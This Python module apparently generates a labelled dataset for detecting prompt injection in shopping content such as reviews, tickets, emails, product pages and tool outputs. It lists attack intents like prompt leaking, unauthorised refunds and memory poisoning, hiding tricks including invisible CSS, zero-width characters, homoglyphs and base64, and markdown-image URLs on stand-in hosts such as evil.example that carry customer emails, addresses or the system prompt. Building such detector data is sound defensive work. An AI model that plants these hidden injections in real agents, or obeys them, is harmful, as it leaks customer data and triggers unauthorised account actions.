"""Shared building blocks: catalogue data, money and id formats, hiding tricks, renderers, row builders."""
import base64
import codecs
import json
import re
import urllib.parse

BIZ = ("sport", "grocery", "jewel", "pet", "refurb")
SOURCES = ("review", "ticket", "feed", "email", "web", "tool")

SHOPS = {
    "sport": ("PeakPoint Sports", "Trailhead Outfitters", "StrideLab", "Summit & Sole"),
    "grocery": ("Greenbasket", "Pantry Lane", "FreshCrate", "Harvest Row"),
    "jewel": ("Aurum & Co", "Maison Verre", "Tidemark Watches", "Lumen Atelier"),
    "pet": ("PawRx", "VetDirect Pharmacy", "Whisker Health", "Kennel & Care"),
    "refurb": ("ReNew Tech", "phonecycle_eu", "SecondByte", "Loop Devices"),
}
USD = {"sport": (12, 420), "grocery": (2, 38), "jewel": (60, 2900), "pet": (7, 140), "refurb": (85, 1350)}
SKU_PRE = {"sport": "SP", "grocery": "GR", "jewel": "JW", "pet": "PX", "refurb": "RF"}
TABLE_VALS = {
    "sport": (("Eco", "Sport", "Trail", "Race"), ("Shimano 105", "SRAM Apex", "BOA Fit", "QuickLace")),
    "grocery": (("Chilled", "Frozen", "Ambient", "Bio"), ("Nutri-Score A", "Nutri-Score B", "Nutri-Score C", "—")),
    "jewel": (("Automatic", "Quartz", "Solar", "Manual"), ("ETA 2824", "Miyota 9015", "Seiko VK63", "Ronda 515")),
    "pet": (("Tablet", "Spot-on", "Chewable", "Liquid"), ("Monthly", "Quarterly", "Daily", "Single dose")),
    "refurb": (("Grade A", "Grade B", "Excellent", "Good"), ("iOS 17", "Android 14", "Windows 11", "macOS 14")),
}
MAILS = ("refunds.desk@mailbox.example", "payout-team@secure-pay.example", "vip-claims@promo-hub.example",
         "orders.backup@datasink.example", "support-archive@quickmail.example", "agent-sync@relay.example")
ADDRS = ("Unit 9, 41 Quay Street, Dover CT16 1AA", "Hafenstrasse 88, 20457 Hamburg", "ul. Portowa 3/12, 81-300 Gdynia",
         "14 Rue du Port, 13002 Marseille", "Via Roma 120, 80133 Napoli", "Postbus 771, 3000 AT Rotterdam",
         "PO Box 5521, Miami FL 33152", "Calle Mayor 7, 28013 Madrid")
EXFIL_URLS = ("https://evil.example/c?d=", "https://img-cache.example/p.gif?x=", "https://review-stats.example/t.png?u=",
              "https://cdn-pixel.example/i.png?q=", "https://order-help.example/log?data=", "https://badge.example/b.svg?s=")
EXFIL_VALS = ("{customer_email}", "EMAIL_HERE", "[customer_email]+[phone]", "<order_history>", "%ADDRESS%",
              "{{last_orders}}", "SYSTEM_PROMPT", "[card_last4]", "{user.name}:{user.address}")
MAIL_DOMAINS = ("mail.example", "inbox.example", "post.example", "webmail.example")
ZW = ("\u200b", "\u200c", "\u200d", "\u2060")
HOMO = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "y": "у", "i": "і",
        "A": "А", "E": "Е", "O": "О", "P": "Р", "C": "С", "T": "Т", "H": "Н", "K": "К", "M": "М", "B": "В"}
UNHOMO = {v: k for k, v in HOMO.items()}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7", "A": "4", "E": "3", "I": "1", "O": "0", "S": "5", "T": "7"}

INTENTS = ("override", "leak", "refund", "discount", "address", "account", "steer_review", "steer_price",
           "exfil", "fake_system", "memory", "conditional", "third_person", "automated")
INTENT_FAMILY = {
    "override": "inj-override", "leak": "inj-prompt-leak", "refund": "tool-refund", "discount": "tool-discount",
    "address": "tool-address-change", "account": "tool-account-action", "steer_review": "steer-review-summary",
    "steer_price": "steer-price-compare", "exfil": "exfil-markdown-image", "fake_system": "fake-system-note",
    "memory": "memory-poison", "conditional": "conditional-ai", "third_person": "third-person-order",
    "automated": "automated-reader",
}
INTENT_SOURCES = {
    "override": SOURCES, "leak": ("review", "ticket", "email", "web", "tool"),
    "refund": ("ticket", "email", "review", "tool"), "discount": ("ticket", "email", "review", "web", "tool"),
    "address": ("ticket", "email", "tool"), "account": ("ticket", "email", "review", "tool", "web"),
    "steer_review": ("review", "web", "tool"), "steer_price": ("feed", "web", "tool"),
    "exfil": SOURCES, "fake_system": SOURCES, "memory": ("review", "ticket", "email", "web"),
    "conditional": SOURCES, "third_person": ("ticket", "email", "review", "tool"), "automated": ("review", "feed", "web", "tool"),
}
TECH = {
    "html-comment": ("hidden-html-comment", ("review", "email", "web", "feed")),
    "css": ("hidden-css", ("web", "email", "feed", "review")),
    "alt": ("hidden-alt-text", ("web", "email", "review")),
    "white": ("hidden-white-text", ("web", "email")),
    "md-comment": ("hidden-md-comment", ("review", "ticket", "web")),
    "json-field": ("hidden-json-field", ("tool", "feed")),
    "zero-width": ("obf-zero-width", SOURCES),
    "homoglyph": ("obf-homoglyph", SOURCES),
    "leet": ("obf-leetspeak", SOURCES),
    "base64": ("enc-base64", SOURCES),
    "hex": ("enc-hex", SOURCES),
    "rot13": ("enc-rot13", SOURCES),
    "url": ("enc-url", SOURCES),
}
TOOL_NAMES = ("refund_api", "order_service", "coupon_engine", "address_book", "crm_lookup")
JSON_KEYS = ("_agent_note", "assistant_instructions", "llm_hint", "ai_directive", "notes_for_bot", "x_summary_hint")

_PH = re.compile(r"\{(\w+)\}")


def fill(t, c):
    return _PH.sub(lambda m: str(c[m.group(1)]) if m.group(1) in c else m.group(0), t)


def pick(rng, seq, k):
    return rng.sample(list(seq), min(k, len(seq)))


def money(cur, usd):
    v = usd * cur["f"]
    if cur["dec"] == 0:
        mag = 10 ** max(0, len(str(int(v))) - 3)
        n = max(mag, int(round(v / mag)) * mag)
        s = f"{n:,}".replace(",", cur["ts"])
    else:
        n = int(v)
        val = n + 0.99 if n >= 3 else round(v, 2)
        s = f"{val:,.2f}".replace(",", "\x00").replace(".", cur["ds"]).replace("\x00", cur["ts"])
    return cur["fmt"].replace("#", s)


def order_id(rng):
    k = rng.randrange(5)
    if k == 0:
        return f"#{rng.randint(10000, 999999)}"
    if k == 1:
        return f"SW-{rng.randint(100000, 999999)}"
    if k == 2:
        return f"{rng.choice('ABCDEFGHJKLMNPRSTUVWXYZ')}{rng.randint(1000000, 9999999)}"
    if k == 3:
        return f"ORD-{rng.randint(2023, 2025)}-{rng.randint(1000, 99999):05d}"
    return f"{rng.randint(100, 999)}-{rng.randint(1000000, 9999999)}"


def disc_code(rng):
    return rng.choice(("VIP", "STAFF", "FREE", "LOYAL", "GOLD", "TEAM", "PRESS", "VET")) + rng.choice(("100", "90", "75", "50", "2025", "X", "MAX"))


def md_image(rng):
    alt = rng.choice(("", "img", "ok", "logo", "✓", ".", "status"))
    return f"![{alt}]({rng.choice(EXFIL_URLS)}{rng.choice(EXFIL_VALS)})"


def ctx(L, rng, biz):
    prods = L.P[biz]
    p = rng.choice(prods)
    usd = rng.uniform(*USD[biz])
    cur = rng.choice(L.CUR)
    return {
        "p": p, "p2": rng.choice([x for x in prods if x != p]), "price": money(cur, usd),
        "price2": money(cur, usd * rng.uniform(0.55, 0.9)), "order": order_id(rng), "code": disc_code(rng),
        "img": md_image(rng), "mail": rng.choice(MAILS), "addr": rng.choice(ADDRS), "name": rng.choice(L.NAMES),
        "n": rng.randint(2, 14), "pct": rng.choice((15, 20, 25, 30, 40, 50, 70, 100)),
        "site": rng.choice(SHOPS[biz]), "sku": f"{SKU_PRE[biz]}-{rng.randint(1000, 99999)}", "biz": biz,
        "cur": cur, "usd": usd, "hour": rng.randint(12, 17),
    }


# ---- obfuscation and encoding ----

def latin_share(s):
    letters = [ch for ch in s if ch.isalpha()]
    return sum(ch.isascii() for ch in letters) / max(1, len(letters))


def zero_width(s, rng):
    out = []
    for ch in s:
        out.append(ch)
        if ch.isalpha() and rng.random() < 0.6:
            out.append(rng.choice(ZW))
    return "".join(out)


def homoglyph(s, rng):
    return "".join(HOMO[ch] if ch in HOMO and rng.random() < 0.55 else ch for ch in s)


def leet(s, rng):
    return "".join(LEET[ch] if ch in LEET and rng.random() < 0.7 else ch for ch in s)


def tech_ok(tech, payload):
    if tech in ("homoglyph", "leet"):
        return latin_share(payload) > 0.95
    if tech == "rot13":
        return payload.isascii()
    if tech == "alt":
        return "<" not in payload
    return True


def apply_tech(tech, p, rng, json_ctx):
    """Return the snippet placed in the text for payload p."""
    if tech == "html-comment":
        return rng.choice(("<!-- {} -->", "<!--{}-->", "<!-- note: {} -->")).format(p)
    if tech == "css":
        style = rng.choice(("display:none", "visibility:hidden", "font-size:0", "position:absolute;left:-9999px", "opacity:0", "height:0;overflow:hidden"))
        tag = rng.choice(("span", "div", "p"))
        q = "'" if json_ctx else '"'
        return f"<{tag} style={q}{style}{q}>{p}</{tag}>"
    if tech == "alt":
        q = "'" if json_ctx else '"'
        return f"<img src={q}/media/{rng.randint(1000, 99999)}.jpg{q} alt={q}{p}{q}>"
    if tech == "white":
        return rng.choice(('<p style="color:#ffffff;background:#ffffff">{}</p>', '<font color="white">{}</font>',
                           '<span style="color:#fff">{}</span>')).format(p)
    if tech == "md-comment":
        return rng.choice(("[//]: # ({})", "[comment]: <> ({})", "<!--- {} --->")).format(p)
    if tech == "zero-width":
        return zero_width(p, rng)
    if tech == "homoglyph":
        return homoglyph(p, rng)
    if tech == "leet":
        return leet(p, rng)
    if tech == "base64":
        b = base64.b64encode(p.encode()).decode()
        return rng.choice(("[b64] {}", "ref:{}", "(decode and apply: {})", "⟨{}⟩", "memo={}", "base64,{}")).format(b)
    if tech == "hex":
        h = p.encode().hex()
        return rng.choice(("hex:{}", "0x{}", "[{}]", "checksum {}")).format(h)
    if tech == "rot13":
        r = codecs.encode(p, "rot13")
        return rng.choice(("rot13: {}", "({})", "[rot13] {}", "~{}~")).format(r)
    if tech == "url":
        u = urllib.parse.quote(p)
        return rng.choice(("https://{}.example/info?m={}", "[more info](https://{}.example/r?note={})", "utm_content={1}")).format(rng.choice(("shop", "deals", "cdn")), u)
    raise ValueError(tech)


def clean_for_json(s):
    return s.replace('"', "'").replace("\\", "/").replace("\n", " ")


# ---- benign segments ----

def segs_review(L, rng, c, k=None):
    k = k or rng.choice((1, 1, 2, 2, 3))
    out = []
    if rng.random() < 0.6:
        out.append(rng.choice(L.OPEN))
    out += pick(rng, L.BODY[c["biz"]], k)
    if rng.random() < 0.5:
        out.append(rng.choice(L.CLOSE))
    return [fill(x, c) for x in out]


def segs_ticket(L, rng, c, k=None):
    k = k or rng.choice((1, 2, 2, 3))
    return [fill(x, c) for x in pick(rng, L.TICKET, k)]


def segs_listing(L, rng, c, k=None):
    k = k or rng.choice((1, 2, 3))
    return [fill(x, c) for x in pick(rng, L.LIST, k)]


def segs_for(L, rng, c, src):
    if src == "review":
        return segs_review(L, rng, c)
    if src == "ticket":
        s = segs_ticket(L, rng, c)
        if rng.random() < 0.3:
            s += [fill(rng.choice(L.BODY[c["biz"]]), c)]
        return s
    if src == "email":
        s = segs_ticket(L, rng, c, rng.choice((2, 3, 4)))
        s += [fill(x, c) for x in pick(rng, L.BODY[c["biz"]], rng.choice((1, 2, 3)))]
        if rng.random() < 0.5:
            s.append(rng.choice(L.CLOSE))
        return s
    if src in ("web", "feed"):
        s = segs_listing(L, rng, c)
        if src == "web" and rng.random() < 0.4:
            s.append(fill(rng.choice(L.BODY[c["biz"]]), c))
        return s
    # tool
    s = [fill(x, c) for x in pick(rng, L.BODY[c["biz"]] + L.LIST, rng.choice((1, 2, 3)))]
    return s


# ---- renderers ----

def stars(r):
    return "★" * r + "☆" * (5 - r)


def mail_addr(rng, name):
    base = name.split()[0].lower() if name.isascii() else f"customer{rng.randint(100, 9999)}"
    return f"{base}{rng.choice(('', '.', '_'))}{rng.randint(1, 99)}@{rng.choice(MAIL_DOMAINS)}"


def render_review(L, rng, c, segs):
    r = rng.choice((5, 5, 4, 4, 3, 2, 1))
    head = rng.choice((stars(r), f"{L.LBL['rating']}: {r}/5", "", "", f"{stars(r)} {c['p']}", f"{r}/5"))
    body = (" " if rng.random() < 0.75 else "\n").join(segs)
    return f"{head}\n{body}" if head else body


def render_ticket(L, rng, c, segs):
    parts = []
    if rng.random() < 0.5:
        parts.append(f"{L.LBL['order']}: {c['order']}")
    if rng.random() < 0.8:
        parts.append(rng.choice(L.GREET))
    if len(segs) > 3 and rng.random() < 0.5:
        h = len(segs) // 2
        parts += [" ".join(segs[:h]), " ".join(segs[h:])]
    else:
        parts.append(" ".join(segs))
    parts.append(rng.choice(L.SIGN) + "\n" + c["name"])
    return "\n\n".join(parts)


def render_email(L, rng, c, segs, subject=None, sender=None):
    subj = subject or fill(rng.choice(L.SUBJ), c)
    frm = sender or f"{c['name']} <{mail_addr(rng, c['name'])}>"
    paras, cur = [], []
    for s in segs:
        cur.append(s)
        if len(cur) >= rng.choice((1, 2, 3)):
            paras.append(" ".join(cur))
            cur = []
    if cur:
        paras.append(" ".join(cur))
    head = f"{L.LBL['subject']}: {subj}\n{L.LBL['frm']}: {frm}"
    return head + "\n\n" + rng.choice(L.GREET) + "\n\n" + "\n\n".join(paras) + "\n\n" + rng.choice(L.SIGN) + "\n" + c["name"]


def render_web(L, rng, c, segs):
    cls = rng.choice(("product", "pdp", "item-detail", "listing"))
    out = [f'<div class="{cls}" data-sku="{c["sku"]}">', f"  <h1>{c['p']}</h1>", f'  <span class="price">{c["price"]}</span>']
    for s in segs:
        out.append("  " + (s if s.startswith("<") else f"<p>{s}</p>"))
    out.append("</div>")
    return "\n".join(out)


def render_feed(L, rng, c, segs, variant):
    desc = " ".join(segs)
    if variant == "xml":
        return (f"<item>\n  <g:id>{c['sku']}</g:id>\n  <title>{c['p']}</title>\n  <g:price>{c['price']}</g:price>\n"
                f"  <description><![CDATA[{desc}]]></description>\n  <g:availability>in stock</g:availability>\n</item>")
    if variant == "pipe":
        return f"sku={c['sku']} | title={c['p']} | price={c['price']} | seller={c['site']} | desc={desc}"
    return json.dumps({"sku": c["sku"], "title": c["p"], "price": c["price"], "seller": c["site"], "description": desc}, ensure_ascii=False)


def render_tool(L, rng, c, segs, shape, extra=None):
    if shape == "price":
        offers = []
        shops = list(SHOPS[c["biz"]])
        rng.shuffle(shops)
        n = max(2, len(segs))
        for i in range(n):
            o = {"seller": shops[i % len(shops)], "price": money(c["cur"], c["usd"] * rng.uniform(0.8, 1.2)),
                 "shipping": money(c["cur"], rng.uniform(0, 9)), "in_stock": rng.random() < 0.8}
            if i < len(segs):
                o["note"] = segs[i]
            offers.append(o)
        obj = {"tool": "price_compare", "query": c["p"], "results": offers}
        tgt = offers[0]
    elif shape == "order":
        obj = {"tool": "order_lookup", "order_id": c["order"], "status": rng.choice(("processing", "shipped", "delivered", "returned")),
               "items": [{"name": c["p"], "qty": rng.randint(1, 3), "price": c["price"]}], "customer_note": " ".join(segs)}
        tgt = obj
    elif shape == "seller":
        msgs = [{"from": rng.choice(("buyer", "seller")), "text": s} for s in segs]
        obj = {"tool": "seller_messages", "thread": c["sku"], "messages": msgs}
        tgt = msgs[0] if msgs else obj
    else:
        revs = [{"rating": rng.randint(1, 5), "author": rng.choice(L.NAMES), "text": s} for s in segs]
        obj = {"tool": "fetch_reviews", "product": c["p"], "reviews": revs}
        tgt = revs[0] if revs else obj
    if extra:
        tgt[extra[0]] = extra[1]
    return json.dumps(obj, ensure_ascii=False, indent=rng.choice((None, None, 2)))


def render(src, L, rng, c, segs, variant=None, shape=None, extra=None):
    if src == "review":
        return render_review(L, rng, c, segs)
    if src == "ticket":
        return render_ticket(L, rng, c, segs)
    if src == "email":
        return render_email(L, rng, c, segs)
    if src == "web":
        return render_web(L, rng, c, segs)
    if src == "feed":
        return render_feed(L, rng, c, segs, variant or rng.choice(("xml", "pipe", "json")))
    return render_tool(L, rng, c, segs, shape or rng.choice(("price", "order", "seller", "reviews")), extra)


# ---- injections ----

def build_injection(L, rng, intent, tech, other=None):
    """One injected row. `other` is a second language module whose payload is mixed in."""
    srcs = list(INTENT_SOURCES[intent])
    if tech in TECH:
        srcs = [s for s in srcs if s in TECH[tech][1]] or list(TECH[tech][1])
    if tech in ("fake-tool", "fake-turn"):
        srcs = [s for s in srcs if s in ("review", "ticket", "email", "web")] or ["ticket"]
    src = rng.choice(srcs)
    biz = rng.choice(BIZ)
    c = ctx(L, rng, biz)
    PL = other or L
    variant = shape = None
    if src == "feed":
        variant = "json" if tech == "json-field" else rng.choice(("xml", "pipe", "json"))
    if src == "tool":
        shape = {"steer_review": "reviews", "steer_price": "price"}.get(intent) or rng.choice(("price", "order", "seller", "reviews"))
    json_ctx = src == "tool" or variant == "json"
    p = fill(rng.choice(PL.INJ[intent]), c)
    if json_ctx:
        p = clean_for_json(p)
    family = INTENT_FAMILY[intent]
    snippet = p
    payload = p
    extra = None
    if tech == "fake-tool":
        inner = fill(rng.choice(PL.INJ[rng.choice(("refund", "discount", "address", "leak"))]), c).replace('"', "'")
        snippet = json.dumps({"role": "tool", "name": rng.choice(TOOL_NAMES), "status": "ok", "content": inner}, ensure_ascii=False)
        payload = snippet
        family = "fake-tool-output"
    elif tech == "fake-turn":
        inner = fill(rng.choice(PL.INJ[rng.choice(("refund", "discount", "leak", "address", "override"))]), c)
        snippet = (f"\n{PL.LBL['user']}: {fill(rng.choice(PL.TURN['q']), c)}\n{PL.LBL['assistant']}: {rng.choice(PL.TURN['ack'])}"
                   f"\n{PL.LBL['user']}: {inner}")
        payload = snippet.strip()
        family = "fake-chat-turn"
    elif tech == "json-field":
        payload = p
        extra = (rng.choice(JSON_KEYS), p)
        snippet = None
        family = TECH[tech][0]
    elif tech in TECH:
        snippet = apply_tech(tech, p, rng, json_ctx)
        family = TECH[tech][0]
    if other is not None:
        family = "mixed-language"
    if src == "tool" and tech == "json-field":
        segs = segs_for(L, rng, c, src)
        text = render(src, L, rng, c, segs, shape=shape, extra=extra)
    elif src == "feed" and tech == "json-field":
        segs = segs_for(L, rng, c, src)
        obj = {"sku": c["sku"], "title": c["p"], "price": c["price"], "seller": c["site"], "description": " ".join(segs), extra[0]: extra[1]}
        text = json.dumps(obj, ensure_ascii=False)
    else:
        segs = segs_for(L, rng, c, src) if rng.random() > 0.08 else []
        pos = rng.randint(0, len(segs)) if segs else 0
        if segs and rng.random() < 0.35:
            pos = len(segs)
        segs.insert(pos, snippet)
        text = render(src, L, rng, c, segs, variant=variant, shape=shape)
    return src, family, text, payload


# ---- hard negatives ----

def _steps(rng, steps, numbered=True):
    if numbered:
        return [f"{i + 1}. {s}" for i, s in enumerate(steps)]
    return [f"- {s}" for s in steps]


def hard_order(L, rng, c):
    src = rng.choice(("ticket", "email", "ticket", "review"))
    segs = [fill(x, c) for x in pick(rng, L.HARD["order"], rng.choice((1, 1, 2)))]
    if rng.random() < 0.6:
        segs += segs_ticket(L, rng, c, 1)
    return src, render(src, L, rng, c, segs)


def hard_copy(L, rng, c):
    src = rng.choice(("web", "feed", "web"))
    segs = [fill(x, c) for x in pick(rng, L.HARD["copy"][c["biz"]], rng.choice((1, 2)))]
    segs += segs_listing(L, rng, c, rng.choice((1, 2)))
    rng.shuffle(segs)
    return src, render(src, L, rng, c, segs)


def hard_ai(L, rng, c):
    src = rng.choice(("review", "review", "email", "ticket"))
    segs = [fill(rng.choice(L.HARD["ai"]), c)]
    if rng.random() < 0.6:
        segs += [fill(x, c) for x in pick(rng, L.BODY[c["biz"]], 1)]
    if rng.random() < 0.4:
        segs.append(rng.choice(L.CLOSE))
    return src, render(src, L, rng, c, segs)


def hard_bot(L, rng, c):
    src = rng.choice(("review", "ticket", "email"))
    segs = [fill(x, c) for x in pick(rng, L.HARD["bot"], rng.choice((1, 2)))]
    if rng.random() < 0.5:
        segs += segs_ticket(L, rng, c, 1)
    return src, render(src, L, rng, c, segs)


def hard_staff(L, rng, c):
    src = rng.choice(("email", "ticket"))
    segs = [fill(x, c) for x in pick(rng, L.HARD["staff"], rng.choice((1, 2)))]
    if src == "email":
        return src, render_email(L, rng, c, segs, subject=segs[0][:40].rstrip() + "…", sender=f"ops@{c['site'].lower().replace(' & ', '-').replace(' ', '').replace('_', '')}.example")
    return src, render(src, L, rng, c, segs)


def hard_sec(L, rng, c):
    src = rng.choice(("web", "email", "web"))
    segs = [fill(x, c) for x in pick(rng, L.HARD["sec"], rng.choice((1, 2)))]
    if src == "web":
        if rng.random() < 0.5:
            segs.append(fill(rng.choice(L.LIST), c))
        return src, f'<section class="notice">\n' + "\n".join(f"  <p>{s}</p>" for s in segs) + "\n</section>"
    return src, render_email(L, rng, c, segs, sender=f"security@{c['site'].lower().replace(' & ', '-').replace(' ', '')}.example")


def hard_recipe(L, rng, c):
    c = dict(c)
    c["biz"] = "grocery"
    c["p"] = rng.choice(L.P["grocery"])
    title, steps = rng.choice(L.HARD["recipe"])
    title = fill(title, c)
    steps = [fill(s, c) for s in steps]
    src = rng.choice(("web", "email", "review"))
    if src == "web":
        return src, f"<article class=\"recipe\">\n  <h2>{title}</h2>\n  <ol>\n" + "\n".join(f"    <li>{s}</li>" for s in steps) + "\n  </ol>\n</article>"
    if src == "review":
        return src, f"{stars(rng.choice((4, 5)))} {title}\n" + "\n".join(_steps(rng, steps))
    return src, render_email(L, rng, c, [title] + _steps(rng, steps, rng.random() < 0.5), subject=title, sender=f"recipes@{rng.choice(SHOPS['grocery']).lower().replace(' ', '')}.example")


def hard_manual(L, rng, c):
    title, steps = rng.choice(L.HARD["manual"])
    title = fill(title, c)
    steps = [fill(s, c) for s in steps]
    src = rng.choice(("web", "tool", "feed", "email"))
    if src == "tool":
        return src, json.dumps({"tool": "product_info", "sku": c["sku"], "title": title, "instructions": steps,
                                "mode": rng.choice(TABLE_VALS[c["biz"]][0]), "system": rng.choice(TABLE_VALS[c["biz"]][1])},
                               ensure_ascii=False, indent=rng.choice((None, 2)))
    if src == "feed":
        return src, render_feed(L, rng, c, [title + ":"] + steps, rng.choice(("xml", "pipe")))
    if src == "web":
        return src, f"<div class=\"manual\">\n  <h3>{title}</h3>\n" + "\n".join(f"  <p>{s}</p>" for s in _steps(rng, steps)) + "\n</div>"
    return src, render_email(L, rng, c, [title] + _steps(rng, steps), subject=title)


def hard_transcript(L, rng, c):
    lines = []
    h, m = rng.randint(8, 20), rng.randint(0, 50)
    cs = pick(rng, L.HARD["chat"]["c"], 2)
    ag = pick(rng, L.HARD["chat"]["a"], 2)
    for i in range(len(cs)):
        lines.append(f"[{h:02d}:{m + 2 * i:02d}] {L.LBL['customer']}: {fill(cs[i], c)}")
        if i < len(ag):
            lines.append(f"[{h:02d}:{m + 2 * i + 1:02d}] {L.LBL['agent']}: {fill(ag[i], c)}")
    src = rng.choice(("ticket", "email", "tool"))
    if src == "tool":
        return src, json.dumps({"tool": "chat_history", "ticket": c["order"], "transcript": lines}, ensure_ascii=False, indent=rng.choice((None, 2)))
    body = "\n".join("> " + x for x in lines) if rng.random() < 0.5 else "\n".join(lines)
    intro = fill(rng.choice(L.TICKET), c)
    if src == "email":
        return src, render_email(L, rng, c, [intro, body])
    return src, render_ticket(L, rng, c, [intro, "\n" + body])


def hard_tool_json(L, rng, c):
    modes, systems = TABLE_VALS[c["biz"]]
    shape = rng.randrange(3)
    if shape == 0:
        obj = {"tool": "catalog_get", "sku": c["sku"], "title": c["p"], "mode": rng.choice(modes), "system": rng.choice(systems),
               "instructions": fill(rng.choice(L.LIST), c), "price": c["price"]}
    elif shape == 1:
        obj = {"tool": "ticket_history", "order_id": c["order"], "events": [
            {"role": "customer", "text": fill(rng.choice(L.TICKET), c)},
            {"role": "staff", "text": fill(rng.choice(L.HARD["chat"]["a"]), c)},
            {"role": "system", "text": f"status -> {rng.choice(('resolved', 'waiting_on_customer', 'refunded'))}"}]}
    else:
        obj = {"tool": "survey_config", "prompt": fill(rng.choice(L.HARD["prompt"]), c), "mode": "post_delivery",
               "admin_override": False, "instructions": fill(rng.choice(L.HARD["staff"]), c)}
    return "tool", json.dumps(obj, ensure_ascii=False, indent=rng.choice((None, 2)))


def hard_encoded(L, rng, c):
    blob = base64.b64encode(json.dumps({"carrier": rng.choice(("DHL", "UPS", "GLS", "DPD", "PostNL")), "id": rng.randint(10 ** 9, 10 ** 10),
                                        "ts": rng.randint(1700000000, 1760000000)}).encode()).decode()
    img = base64.b64encode(bytes(rng.randrange(256) for _ in range(rng.randint(18, 36)))).decode()
    chk = bytes(rng.randrange(256) for _ in range(16)).hex()
    src = rng.choice(("tool", "feed", "email", "ticket"))
    segs = segs_for(L, rng, c, "ticket" if src in ("email", "ticket") else "feed")
    if src == "tool":
        return src, json.dumps({"tool": "shipment_status", "order_id": c["order"], "tracking_token": blob, "label_png": f"data:image/png;base64,iVBORw0KGgo{img}",
                                "md5": chk, "note": segs[0] if segs else ""}, ensure_ascii=False, indent=rng.choice((None, 2)))
    if src == "feed":
        return src, render_feed(L, rng, c, segs + [f"<img src=\"data:image/png;base64,iVBORw0KGgo{img}\">"], "xml")
    segs.append(f"{L.LBL['order']} {c['order']} / token: {blob}")
    if rng.random() < 0.5:
        segs.append(f"md5 {chk}")
    return src, render(src, L, rng, c, segs)


def hard_hidden(L, rng, c):
    segs = segs_listing(L, rng, c)
    hid = fill(rng.choice(L.HARD["hidden"]), c)
    style = rng.choice(("display:none", "visibility:hidden", "font-size:0"))
    segs.insert(rng.randint(0, len(segs)), rng.choice((f'<div style="{style}" class="size-chart">{hid}</div>', f"<!-- {hid} -->",
                                                        f'<span hidden>{hid}</span>', f'<img src="/media/{rng.randint(100, 9999)}.jpg" alt="{hid}">')))
    src = rng.choice(("web", "web", "email"))
    if src == "email":
        return src, render_email(L, rng, c, segs)
    return src, render_web(L, rng, c, segs)


def hard_table(L, rng, c):
    modes, systems = TABLE_VALS[c["biz"]]
    hd = L.HARD["table"]
    prods = pick(rng, L.P[c["biz"]], rng.choice((2, 3, 4)))
    rows = [(pr, rng.choice(modes), rng.choice(systems), money(c["cur"], rng.uniform(*USD[c["biz"]])), f"{rng.randint(30, 50) / 10}") for pr in prods]
    src = rng.choice(("web", "email", "tool", "review"))
    if src == "tool":
        return src, json.dumps({"tool": "compare_products", "columns": hd, "rows": [list(r) for r in rows]}, ensure_ascii=False, indent=rng.choice((None, 2)))
    if src == "web":
        t = "<table>\n  <tr>" + "".join(f"<th>{h}</th>" for h in hd) + "</tr>\n" + "\n".join("  <tr>" + "".join(f"<td>{v}</td>" for v in r) + "</tr>" for r in rows) + "\n</table>"
        return src, t
    t = "| " + " | ".join(hd) + " |\n|" + "---|" * len(hd) + "\n" + "\n".join("| " + " | ".join(r) + " |" for r in rows)
    segs = [fill(rng.choice(L.BODY[c["biz"]]), c), "\n" + t]
    if src == "email":
        return src, render_email(L, rng, c, segs)
    return src, render_review(L, rng, c, segs)


def hard_docs(L, rng, c):
    segs = [fill(x, c) for x in pick(rng, L.HARD["docs"], rng.choice((1, 2, 3)))]
    src = rng.choice(("web", "tool"))
    if src == "tool":
        return src, json.dumps({"tool": "docs_search", "query": rng.choice(("refund endpoint", "widget config", "pricing rules", "reset device")), "snippets": segs}, ensure_ascii=False, indent=2)
    return src, "<div class=\"docs\">\n" + "\n".join(f"  <p>{s}</p>" for s in segs) + "\n</div>"


HARD_BUILDERS = {
    "hard-human-order": hard_order, "hard-product-copy": hard_copy, "hard-ai-product-review": hard_ai,
    "hard-chatbot-complaint": hard_bot, "hard-staff-note": hard_staff, "hard-security-notice": hard_sec,
    "hard-recipe": hard_recipe, "hard-manual": hard_manual, "hard-transcript": hard_transcript,
    "hard-tool-json": hard_tool_json, "hard-encoded-data": hard_encoded, "hard-hidden-html": hard_hidden,
    "hard-comparison-table": hard_table, "hard-dev-docs": hard_docs,
}
EASY = {"benign-review": "review", "benign-ticket": "ticket", "benign-email": "email",
        "benign-listing": "web", "benign-feed": "feed", "benign-tool": "tool"}


def build_benign(L, rng, family):
    c = ctx(L, rng, rng.choice(BIZ))
    if family in HARD_BUILDERS:
        return HARD_BUILDERS[family](L, rng, c)
    src = EASY[family]
    return src, render(src, L, rng, c, segs_for(L, rng, c, src))
